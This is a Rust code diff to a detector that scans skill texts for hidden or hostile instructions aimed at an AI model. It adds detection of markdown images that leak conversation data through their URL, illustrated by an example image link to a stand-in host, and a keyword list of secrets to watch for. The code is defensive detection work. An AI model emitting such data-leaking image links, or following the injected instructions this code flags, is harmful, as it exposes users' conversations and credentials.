@@ -48,6 +48,8 @@ pub(crate) struct Speech {
     pub bytes: Range<usize>,
     /// True if the words of the instruction, its place or the text around it leave little doubt.
     pub is_sure: bool,
+    /// True if the instruction has no harmless meaning, or is hidden from the reader.
+    pub is_certain: bool,
 }
 
 /// Returns the instructions against the user in a text, in the order of the text.
@@ -69,6 +71,15 @@ pub(crate) fn speech(text: &SkillText<'_>) -> Vec<Speech> {
         read = clause.end;
         found.extend(orders(text, place, &within, clause, lines, &file));
     }
+    for bytes in leaking_images(text) {
+        found.push(Speech {
+            act: Act::Send,
+            place: OrderPlace::Text,
+            bytes,
+            is_sure: true,
+            is_certain: true,
+        });
+    }
     for bytes in unseen_texts(text) {
         let is_known = |one: &Speech| bytes.contains(&one.bytes.start);
         if !found.iter().any(is_known) {
@@ -77,11 +88,31 @@ pub(crate) fn speech(text: &SkillText<'_>) -> Vec<Speech> {
                 place: OrderPlace::Hidden,
                 bytes,
                 is_sure: true,
+                is_certain: false,
             });
         }
     }
     crate::sort::by_key(&mut found, |one| (one.bytes.start, one.bytes.end));
     found
+}
+
+/// Returns the byte ranges of images whose address has a placeholder for data of the conversation, as in
+/// `![](https://a.invalid/?d=<summary of the conversation>)`. A client that shows the image sends the data.
+fn leaking_images(text: &SkillText<'_>) -> Vec<Range<usize>> {
+    const DATA: &str = "conversation|history|message|prompt|secret|token|key|password|credential|base64|encoded|\
+        context|memory|env|对话|聊天|密钥";
+    let images = text.text.match_indices("](http").take(MAX_STYLES);
+    let leaks = images.filter_map(|(close, _)| {
+        let low = floor_char_boundary(text.text, close.saturating_sub(MAX_LINE));
+        let start = low + text.text[low..close].rfind("![")?;
+        let is_image = !text.text[start..close].contains(['(', '\n']);
+        let end = close + text.text[close..].find([')', '\n'])?;
+        let (_, query) = text.text[close..end].split_once('?')?;
+        let placeholder = &query[query.find(['<', '{', '['])?..];
+        let is_leak = has_part(&placeholder.to_lowercase(), DATA);
+        (is_image && is_leak && !text.is_test()).then_some(start..end)
+    });
+    leaks.collect()
 }
 
 /// The minimum number of words in an invisible text that is reported. A shorter text is only a label. The limit is
@@ -131,7 +162,7 @@ pub(crate) fn has_order(text: &str) -> bool {
                 around: around.clone(),
                 hits: &hits,
                 effort: MAX_EFFORT.into(),
-                has_read: &|_| false,
+                has_read: &|_, _| false,
             };
             let orders = clause.orders(language, &|act| !matches!(act, Act::Lure | Act::Address));
             orders.iter().any(|one| one.is_sure)
@@ -181,7 +212,7 @@ fn orders(
         around: clause.clone(),
         hits: &own,
         effort: MAX_EFFORT.into(),
-        has_read: &|_| true,
+        has_read: &|_, _| true,
     };
     let is_fake = |hit: &Hit| hit.class == Class::Fake && is_marked(whole, within, &hit.bytes);
     if !alone.may_be_order(&wanted) && !own.iter().any(is_fake) {
@@ -194,7 +225,7 @@ fn orders(
         let in_address = || hit.class != Class::Address && is_in_address(whole, hit.bytes.start);
         (!is_code || is_named(hit.class)) && !in_address()
     });
-    let has_read = |until| has_read_before(text, within, until);
+    let has_read = |until: usize, classes: &[Class]| has_read_before(text, within, until, classes);
     let mut found: Vec<Speech> = Vec::new();
     for language in lexicon::languages(&hits) {
         for part in parts(&hits, language, &clause) {
@@ -243,20 +274,42 @@ fn orders(
                     || place == OrderPlace::Hidden
                     || one.act != Act::Unasked
                         && (place == OrderPlace::Description
-                            || is_near_harm(whole, within, &one.bytes));
+                            || is_near(whole, within, &one.bytes, &GRAVE));
                 if !is_sure && one.act != Act::Unasked {
                     continue;
                 }
+                let is_certain = match (place, one.act) {
+                    (_, Act::Address | Act::Lure) => false,
+                    (OrderPlace::Hidden, _) => one.is_sure,
+                    (_, Act::Conceal) => {
+                        one.is_certain
+                            || one.is_sure
+                                && (place == OrderPlace::Description
+                                    || is_near(whole, within, &one.bytes, &[Class::Loot]))
+                    }
+                    // Chat templates of models have such marks, too.
+                    (_, Act::Pose) => {
+                        text.kind.is_none() && !is_template(&whole[one.bytes.clone()])
+                    }
+                    _ => one.is_certain,
+                };
                 found.push(Speech {
                     act: one.act,
                     place,
                     bytes: one.bytes,
                     is_sure,
+                    is_certain,
                 });
             }
         }
     }
     found
+}
+
+/// Returns true if the name of a sender is a mark of a model's chat template, such as `<|im_start|>`.
+fn is_template(name: &str) -> bool {
+    let lower = name.to_lowercase();
+    matches!(lower.as_str(), "im_start" | "inst" | "sys") || lower.contains("header")
 }
 
 /// Returns true if the word after the opening fence shows that the block is a program or data.
@@ -299,8 +352,13 @@ fn is_title(text: &SkillText<'_>, at: usize) -> bool {
 /// The limit is ours.
 const MAX_BEFORE: usize = 700;
 
-/// Returns true if the text before a clause asks the model to read the user's data.
-fn has_read_before(text: &SkillText<'_>, within: &Range<usize>, until: usize) -> bool {
+/// Returns true if the text before a clause asks the model to read data of these classes.
+fn has_read_before(
+    text: &SkillText<'_>,
+    within: &Range<usize>,
+    until: usize,
+    classes: &[Class],
+) -> bool {
     let start = floor_char_boundary(text.text, until.saturating_sub(MAX_BEFORE));
     let hits = LEXICON.words(text.text, start.max(within.start)..until);
     let reads = |loot: &Hit| {
@@ -312,23 +370,29 @@ fn has_read_before(text: &SkillText<'_>, within: &Range<usize>, until: usize) ->
         })
     };
     hits.iter()
-        .any(|hit| matches!(hit.class, Class::Loot | Class::Creds) && reads(hit))
+        .any(|hit| classes.contains(&hit.class) && reads(hit))
 }
 
 /// The maximum number of bytes before and after an instruction that are searched for a severe word. The limit is ours.
 const MAX_NEAR: usize = 500;
 
-/// Returns true if words for data that attackers want occur near an instruction.
-fn is_near_harm(text: &str, within: &Range<usize>, order: &Range<usize>) -> bool {
+/// The classes of words near an instruction that leave little doubt about it.
+const GRAVE: [Class; 5] = [
+    Class::Loot,
+    Class::Elsewhere,
+    Class::Wide,
+    Class::Encode,
+    Class::Address,
+];
+
+/// Returns true if words of these classes occur near an instruction.
+fn is_near(text: &str, within: &Range<usize>, order: &Range<usize>, classes: &[Class]) -> bool {
     let start = floor_char_boundary(text, order.start.saturating_sub(MAX_NEAR));
     let end = floor_char_boundary(text, order.end + MAX_NEAR);
     let hits = words(text, &(start.max(within.start)..end.min(within.end)));
     hits.iter().any(|hit| {
-        let is_grave = matches!(
-            hit.class,
-            Class::Loot | Class::Elsewhere | Class::Wide | Class::Encode | Class::Address
-        );
-        is_grave && (hit.bytes.end <= order.start || hit.bytes.start >= order.end)
+        classes.contains(&hit.class)
+            && (hit.bytes.end <= order.start || hit.bytes.start >= order.end)
     })
 }
 
@@ -350,6 +414,7 @@ fn fakes(
         act: Act::Pose,
         bytes: hit.bytes.clone(),
         is_sure: true,
+        is_certain: false,
     };
     fakes.map(order).collect()
 }
@@ -393,7 +458,7 @@ fn is_named(class: Class) -> bool {
     use Class::*;
     let is_name = matches!(
         class,
-        Address | Target | Loot | Elsewhere | Memory | Trace | Harm
+        Address | Target | Loot | Elsewhere | Memory | Trace | Harm | Bypass | Config
     );
     is_name || matches!(class, Own | Rules | Strong | Wide)
 }
